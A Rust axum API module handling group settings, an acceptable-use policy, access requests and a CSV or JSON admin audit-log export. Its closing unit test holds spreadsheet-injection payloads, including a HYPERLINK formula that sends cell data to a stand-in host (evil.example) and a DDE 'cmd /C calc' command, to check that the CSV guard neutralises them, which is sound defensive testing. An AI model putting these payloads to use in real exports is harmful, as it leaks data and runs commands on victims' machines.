//! Group settings (`/api/v1/groups/{group}/settings`) and the audit log
//! (`/api/v1/admin/audit`, JSON or CSV). The app layer decides who may.

use axum::Json;
use axum::Router;
use axum::extract::{Path, Query, State};
use axum::http::header;
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post, put};
use nuvola_app::{AuditEntry, AuditFilter, GroupSettings, RequestKind, RequestStatus};
use nuvola_types::Error;
use serde::Deserialize;
use serde_json::{Value, json};

use crate::extract::{Body, Caller};
use crate::{ApiError, ApiState};

pub fn routes() -> Router<ApiState> {
    Router::new()
        .route("/groups/{group}/settings", get(group_settings).put(set_group_settings))
        .route("/admin/audit", get(audit))
        .route("/policy", get(policy))
        .route("/policy/accept", post(accept_policy))
        .route("/admin/policy", put(publish_policy))
        .route("/requests", get(list_requests).post(create_request))
        .route("/requests/{id}/decision", post(decide_request))
}

/// `POST /api/v1/requests`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RequestBody {
    pub kind: RequestKind,
    pub target: String,
    pub reason: String,
    pub email: Option<String>,
}

/// `POST /api/v1/requests/{id}/decision`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct DecisionBody {
    pub approve: bool,
    #[serde(default)]
    pub comment: String,
}

/// Query of `GET /api/v1/requests`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RequestsQuery {
    status: Option<RequestStatus>,
}

fn request_view(r: &nuvola_app::AccessRequest) -> Value {
    json!({
        "id": r.id,
        "requester": {"subject": r.subject, "issuer": r.issuer},
        "email": r.email,
        "kind": r.kind,
        "target": r.target,
        "reason": r.reason,
        "status": r.status,
        "decidedBy": r.decided_by,
        "comment": r.comment,
        "createdAt": crate::views::rfc3339(r.created_at),
        "decidedAt": r.decided_at.map(crate::views::rfc3339),
    })
}

async fn create_request(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Body(body): Body<RequestBody>,
) -> Result<(axum::http::StatusCode, Json<Value>), ApiError> {
    let new = nuvola_app::requests::NewRequest {
        kind: body.kind,
        target: body.target,
        reason: body.reason,
        email: body.email,
    };
    let created = state.app.create_request(&caller, new).await?;
    Ok((axum::http::StatusCode::CREATED, Json(request_view(&created))))
}

async fn list_requests(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    query: Result<Query<RequestsQuery>, axum::extract::rejection::QueryRejection>,
) -> Result<Json<Value>, ApiError> {
    let Query(q) = query.map_err(|e| Error::invalid(e.body_text()))?;
    let list = state.app.requests(&caller, q.status).await?;
    Ok(Json(json!({"content": list.iter().map(request_view).collect::<Vec<_>>()})))
}

async fn decide_request(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Path(id): Path<String>,
    Body(body): Body<DecisionBody>,
) -> Result<Json<Value>, ApiError> {
    Ok(Json(request_view(&state.app.decide_request(&caller, &id, body.approve, &body.comment).await?)))
}

/// `PUT /api/v1/admin/policy`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PublishPolicy {
    pub text: String,
}

/// `POST /api/v1/policy/accept`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AcceptPolicy {
    pub version: i64,
}

fn policy_view(p: &nuvola_app::Policy, accepted_at: Option<i64>) -> Value {
    json!({
        "version": p.version,
        "text": p.text,
        "publishedBy": p.published_by,
        "publishedAt": crate::views::rfc3339(p.published_at),
        "acceptedAt": accepted_at.map(crate::views::rfc3339),
    })
}

async fn policy(State(state): State<ApiState>, Caller(caller): Caller) -> Result<Json<Value>, ApiError> {
    match state.app.policy(&caller).await? {
        Some((p, accepted)) => Ok(Json(policy_view(&p, accepted))),
        None => Err(Error::not_found("no acceptable-use policy is published").into()),
    }
}

async fn accept_policy(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Body(request): Body<AcceptPolicy>,
) -> Result<Json<Value>, ApiError> {
    let at = state.app.accept_policy(&caller, request.version).await?;
    Ok(Json(json!({"version": request.version, "acceptedAt": crate::views::rfc3339(at)})))
}

async fn publish_policy(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Body(request): Body<PublishPolicy>,
) -> Result<Json<Value>, ApiError> {
    Ok(Json(policy_view(&state.app.publish_policy(&caller, &request.text).await?, None)))
}

/// `PUT /api/v1/groups/{group}/settings`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct GroupSettingsRequest {
    pub members_see_group: bool,
}

fn settings_view(s: &GroupSettings) -> Value {
    json!({
        "group": s.name,
        "membersSeeGroup": s.members_see_group,
        "updatedBy": if s.updated_by.is_empty() { Value::Null } else { s.updated_by.clone().into() },
        "updatedAt": if s.updated_at == 0 { Value::Null } else { crate::views::rfc3339(s.updated_at).into() },
    })
}

async fn group_settings(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Path(group): Path<String>,
) -> Result<Json<Value>, ApiError> {
    Ok(Json(settings_view(&state.app.group_settings(&caller, &group).await?)))
}

async fn set_group_settings(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    Path(group): Path<String>,
    Body(request): Body<GroupSettingsRequest>,
) -> Result<Json<Value>, ApiError> {
    Ok(Json(settings_view(&state.app.set_group_settings(&caller, &group, request.members_see_group).await?)))
}

/// Query of `GET /api/v1/admin/audit`.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct AuditQuery {
    subject: Option<String>,
    action: Option<String>,
    target: Option<String>,
    /// RFC 3339, inclusive.
    since: Option<String>,
    /// RFC 3339, exclusive.
    until: Option<String>,
    limit: Option<i64>,
    /// `json` (default) or `csv`.
    format: Option<String>,
}

fn parse_time(name: &str, text: Option<&str>) -> Result<Option<i64>, Error> {
    text.map(|t| {
        chrono::DateTime::parse_from_rfc3339(t)
            .map(|d| d.timestamp_millis())
            .map_err(|e| Error::invalid(format!("{name} must be an RFC 3339 time such as 2025-01-31T12:00:00Z: {e}")))
    })
    .transpose()
}

async fn audit(
    State(state): State<ApiState>,
    Caller(caller): Caller,
    query: Result<Query<AuditQuery>, axum::extract::rejection::QueryRejection>,
) -> Result<Response, ApiError> {
    let Query(q) = query.map_err(|e| Error::invalid(e.body_text()))?;
    let filter = AuditFilter {
        subject: q.subject,
        action: q.action,
        target: q.target,
        since: parse_time("since", q.since.as_deref())?,
        until: parse_time("until", q.until.as_deref())?,
        limit: q.limit.unwrap_or(1000),
    };
    let entries = state.app.audit_log(&caller, &filter).await?;
    match q.format.as_deref().unwrap_or("json") {
        "json" => Ok(Json(json!({"content": entries.iter().map(entry_view).collect::<Vec<_>>()})).into_response()),
        "csv" => Ok(([(header::CONTENT_TYPE, "text/csv; charset=utf-8")], csv(&entries)).into_response()),
        other => Err(Error::invalid(format!("format must be json or csv, not {other:?}")).into()),
    }
}

fn entry_view(e: &AuditEntry) -> Value {
    json!({
        "seq": e.seq,
        "at": crate::views::rfc3339(e.at),
        "subject": e.subject,
        "issuer": e.issuer,
        "action": e.action,
        "target": e.target,
        "clientIp": e.client_ip,
        "detail": e.detail,
    })
}

/// The audit log as CSV; its text comes from users, so every field goes
/// through the guard against spreadsheet formulas.
fn csv(entries: &[AuditEntry]) -> String {
    let mut out = String::from("seq,at,subject,issuer,action,target,client_ip,detail\n");
    for e in entries {
        let row = [
            e.seq.to_string(),
            crate::views::rfc3339(e.at),
            e.subject.clone(),
            e.issuer.clone(),
            e.action.clone(),
            e.target.clone(),
            e.client_ip.clone().unwrap_or_default(),
            e.detail.to_string(),
        ];
        out.push_str(&row.iter().map(|f| nuvola_types::csv::field(f)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn audit_fields_are_never_read_as_formulas() {
        let entry = AuditEntry {
            seq: 1,
            at: 0,
            subject: "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")".into(),
            issuer: "+cmd|' /C calc'!A0".into(),
            action: "-2+3".into(),
            target: "@SUM(1+1)".into(),
            client_ip: Some("\t=1+1".into()),
            detail: json!({}),
        };
        let text = csv(&[entry]);
        let row = text.lines().nth(1).unwrap();
        assert_eq!(
            row,
            "1,1970-01-01T00:00:00.000Z,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"open\"\")\",\
             '+cmd|' /C calc'!A0,'-2+3,'@SUM(1+1),'\t=1+1,{}"
        );
    }
}
